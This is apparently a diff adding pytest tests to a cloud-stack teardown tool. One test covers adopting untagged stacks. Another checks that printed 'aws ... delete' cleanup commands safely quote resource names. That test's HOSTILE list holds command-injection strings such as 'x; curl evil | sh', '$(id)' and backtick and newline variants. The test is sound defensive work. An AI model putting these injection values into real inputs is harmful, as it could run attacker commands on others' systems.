@@ -5,6 +5,7 @@ from __future__ import annotations
 import io
 import json
 import re
+import shlex
 from types import SimpleNamespace
 
 import pytest
@@ -13,6 +14,7 @@ from small_stacks import ACCOUNT
 from tandem import cli
 from tandem.ops.fault import DeniedError
 from tandem.ops.leftovers import SEARCHES
+from tandem.shell_command import clean_text
 from tandem.spec import names
 
 pytestmark = pytest.mark.proof
@@ -114,6 +116,19 @@ def test_already_destroyed_ends_with_the_same_list(small, run):
     assert (second.code, second.out) == (0, first.out)
 
 
+def test_the_flag_adopts_the_stack_that_it_names_and_says_so(small, run):
+    one = small().deploy(("Artifacts",))
+    one.create("Image", {"Vpc": {"Type": "AWS::EC2::VPC", "Properties": {"CidrBlock": "10.9.0.0/16"}}}, "nobody",
+               "Tandem: as of old")  # fmt: skip
+    words = ("--yes-i-mean", one.name)
+
+    left, adopted = run(one, *words), run(one, *words, "--adopt-untagged", f"{one.name}-Image")
+
+    assert (left.code, adopted.code) == (2, 0)
+    assert f"goes   {one.name}-Image, 1 resource, adopted" in adopted.err
+    assert set(one.stacks()) == {"Artifacts"}
+
+
 def test_an_orphan_makes_it_end_with_1_and_its_command(small, run):
     one = small()
     one.client("ecr").create_repository(repositoryName=f"tandem-{one.name}-tools")
@@ -122,6 +137,31 @@ def test_an_orphan_makes_it_end_with_1_and_its_command(small, run):
 
     assert done.code == 1
     assert re.search(r"ECR repository tandem-\S+: ORPHAN; aws ecr delete-repository", done.out)
+
+
+HOSTILE = ("x; curl evil | sh", "$(id)", "`id`", "it's", 'a "b"', "x\ncurl evil", "x\x1b[2J", "x && id #")
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_strangers_name_is_one_word_of_the_command_that_removes_it(small, run, text):
+    one = small()
+    alarm, budget = f"{one.name}-{text}", f"tandem-{one.name}-{text}"
+    one.client("cloudwatch").put_metric_alarm(
+        AlarmName=alarm, Namespace=f"Tandem/{one.name}", MetricName="m", Statistic="Sum", Period=60,
+        EvaluationPeriods=1, Threshold=1, ComparisonOperator="GreaterThanThreshold",
+    )  # fmt: skip
+    one.client("budgets").create_budget(AccountId=ACCOUNT, Budget={
+        "BudgetName": budget, "BudgetType": "COST", "TimeUnit": "MONTHLY",
+        "BudgetLimit": {"Amount": "1", "Unit": "USD"},
+    })  # fmt: skip
+
+    said = run(one).out
+
+    commands = [shlex.split(line.partition(": ORPHAN; ")[2]) for line in said.splitlines() if ": ORPHAN; " in line]
+    assert ["aws", "cloudwatch", "delete-alarms", "--alarm-names", clean_text(alarm)] in commands
+    assert ["aws", "budgets", "delete-budget", "--account-id", ACCOUNT, "--budget-name", clean_text(budget)] in commands
+    assert len(commands) == 2
+    assert said.replace("\n", "").isprintable()
 
 
 def test_a_document_has_all_of_it(small, run):
